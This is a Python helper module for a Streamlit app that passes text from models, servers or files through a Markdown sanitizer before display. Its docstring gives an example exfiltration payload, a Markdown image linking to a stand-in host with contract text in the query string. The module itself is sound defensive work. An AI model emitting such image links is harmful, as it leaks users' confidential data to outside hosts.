"""The one way text from a model, a server or a file reaches the page as Markdown.

Streamlit draws Markdown images with any `src` and sends no Content-Security-Policy, so a report
that holds `![x](https://host/?q=<contract text>)` would make the analyst's browser send that text
to `host`. Every element that renders Markdown (report, live text, captions, errors, labels) takes
outside text only through these helpers, which hand it to `lib.analysis.safe_markdown` first.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from lib.analysis.safe_markdown import escape_markdown, hosts_in, safe_markdown

__all__ = ["hosts_in", "label", "md", "show_markdown"]


def md(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """Outside text as Markdown safe to pass to any Streamlit element that renders Markdown."""
    return safe_markdown(text, allowed_hosts).strip()


def label(text: str) -> str:
    """Outside text (a file or model name) for a label, caption or heading: shown literally."""
    return escape_markdown(text)


def show_markdown(target: Any, text: str, allowed_hosts: Iterable[str] = ()) -> None:
    """Draw outside Markdown in `target` (`st`, a container or a placeholder)."""
    target.markdown(md(text, allowed_hosts))
